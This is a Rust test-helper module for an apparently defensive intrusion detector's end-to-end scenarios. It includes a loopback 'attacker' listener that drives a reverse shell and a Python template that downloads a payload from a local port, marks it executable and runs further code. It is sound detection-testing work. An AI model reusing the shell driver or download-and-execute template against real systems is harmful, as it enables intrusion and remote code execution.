//! Shared by the scenario tests (`tests/e2e_scenarios.rs`,
//! `tests/e2e_robust.rs`, `tests/e2e_relay.rs`, `tests/e2e_noexec.rs`):
//! their configuration, the alerts of one rule, temp-path clean-up, a
//! loopback "attacker" and a loopback server of one download.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use serde_json::Value;

use super::{get, unique};

/// Network on for connects (rg-drop-exec scores writers that connected).
pub const CONFIG: &str = "[kernel]\nring_buffer_bytes = 4194304\n\
                          [network]\nenabled = true\nhooks = [\"connect\"]\n";

/// Is `r` an alert of `rule`?
pub fn is_alert(r: &Value, rule: &str) -> bool {
    r["record_type"] == "alert" && get(r, "rule.id") == rule
}

/// The alerts of `rule` among `records`.
pub fn alerts<'a>(records: &'a [Value], rule: &str) -> Vec<&'a Value> {
    records.iter().filter(|r| is_alert(r, rule)).collect()
}

/// The rg-reverse-shell alerts with a piece of evidence that connects to
/// loopback `port` (an [`Attacker`]'s).
pub fn shell_alerts(records: &[Value], port: u16) -> Vec<&Value> {
    alerts(records, "rg-reverse-shell")
        .into_iter()
        .filter(|a| {
            get(a, "rand_guard.alert.evidence")
                .as_array()
                .unwrap()
                .iter()
                .any(|e| get(e, "destination.port") == port)
        })
        .collect()
}

/// (action, pid) of each piece of an alert's evidence, oldest first.
pub fn evidence(alert: &Value) -> Vec<(String, u64)> {
    get(alert, "rand_guard.alert.evidence")
        .as_array()
        .expect("evidence")
        .iter()
        .map(|e| {
            (
                get(e, "event.action").as_str().unwrap().to_string(),
                get(e, "process.pid").as_u64().unwrap(),
            )
        })
        .collect()
}

/// Removes the paths it holds (files, or directories with what is in
/// them) when dropped.
pub struct Cleanup(pub Vec<String>);

/// A new directory `/tmp/rg-test-TAG-PID`, removed when the [`Cleanup`]
/// is dropped.
pub fn temp_dir(tag: &str) -> (String, Cleanup) {
    let dir = format!("/tmp/{}", unique(tag));
    fs::create_dir_all(&dir).unwrap();
    (dir.clone(), Cleanup(vec![dir]))
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = fs::remove_file(p).or_else(|_| fs::remove_dir_all(p));
        }
    }
}

/// A listener on loopback standing in for the attacker's machine.
pub struct Attacker {
    pub listener: TcpListener,
    pub port: u16,
}

impl Attacker {
    pub fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        Attacker { listener, port }
    }

    /// Take the shell's connection, run `echo marker; exit` through it,
    /// and return what came back: until the marker's line, or the end (a
    /// relay need not close its end when the shell exits; a terminal
    /// ends the line with \r\n), 10 s at most. The connection is closed
    /// on return.
    pub fn drive(&self, marker: &str) -> String {
        let (mut conn, _) = self.listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        conn.write_all(format!("echo {marker}\nexit\n").as_bytes())
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(10);
        let mut out = Vec::new();
        let mut buf = [0u8; 4096];
        while Instant::now() < deadline {
            match conn.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => out.extend_from_slice(&buf[..n]),
                Err(_) => {}
            }
            if String::from_utf8_lossy(&out).contains(&format!("{marker}\n")) {
                break;
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }
}

/// A loopback server that sends `body` to the first connection and
/// closes it: (its port, the thread, to join once the download is done).
pub fn serve_once(body: Vec<u8>) -> (u16, JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let serve = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        s.write_all(&body).unwrap();
    });
    (port, serve)
}

/// Python that downloads from loopback `port` into `payload`, makes it
/// executable, then runs `then` (Python lines; `os`, `socket` and
/// `subprocess` imported).
pub fn downloader(port: u16, payload: &str, then: &str) -> String {
    format!(
        r#"
import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", {port}))
data = b""
while True:
    chunk = s.recv(65536)
    if not chunk: break
    data += chunk
with open("{payload}", "wb") as f: f.write(data)
os.chmod("{payload}", 0o755)
{then}
"#
    )
}
